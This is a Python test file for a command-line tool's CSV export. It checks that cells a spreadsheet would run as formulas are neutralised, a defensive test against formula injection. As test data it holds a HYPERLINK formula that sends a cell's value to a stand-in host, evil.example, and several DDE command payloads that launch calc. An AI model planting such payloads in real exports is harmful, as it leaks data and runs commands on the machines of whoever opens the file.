"""CSV cells that a spreadsheet would run as a formula are neutralised (issue 10, item 6, OWASP)."""

from __future__ import annotations

import csv
import io
import re
import zipfile

from stepdown.reports.export import safe_cell

INIT = ("init", "--amount", "40", "--strength", "5", "--split", "4", "--times", "2",
        "--duration-days", "200", "--yes")  # fmt: skip
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
NUMBER = re.compile(r"[+-]?[0-9]+(?:[.][0-9]+)?")


def test_formula_cells_are_neutralised_in_every_csv(run, home) -> None:
    assert run(*INIT)[0] == 0
    assert run("note", EVIL)[0] == 0
    assert run("support", "distraction", "+cmd|' /C calc'!A0")[0] == 0
    code, _, err = run("craving", "log", "--intensity", "5", "--trigger", "boredom", "--outcome", "passed",
                       "--helped", "@SUM(1+1)*cmd|' /C calc'!A0",
                       "--note", "-2+3+cmd|' /C calc'!A0")  # fmt: skip
    assert code == 0, err
    code, _, err = run("checkin", "--quick", "--answers", "1,1,1,0,1,1,0,1,2,1", "--no-red-flags",
                       "--note", "\t=1+1")  # fmt: skip
    assert code == 0, err
    assert run("export", "--format", "csv", "--out", "out.zip")[0] == 0
    cells = []
    with zipfile.ZipFile(home / "out.zip") as archive:
        for name in archive.namelist():
            for row in csv.reader(io.StringIO(archive.read(name).decode())):
                cells.extend(row)
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not NUMBER.fullmatch(c)]
    assert dangerous == []
    assert "'" + EVIL in cells  # kept whole, shown as text
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells and "'+cmd|' /C calc'!A0" in cells


def test_plain_numbers_and_ordinary_text_are_left_alone() -> None:
    assert safe_cell("-2.5") == "-2.5" and safe_cell("12") == "12"
    assert safe_cell("hello = world") == "hello = world"
    assert safe_cell("-") == "'-" and safe_cell("\rx") == "'\rx"
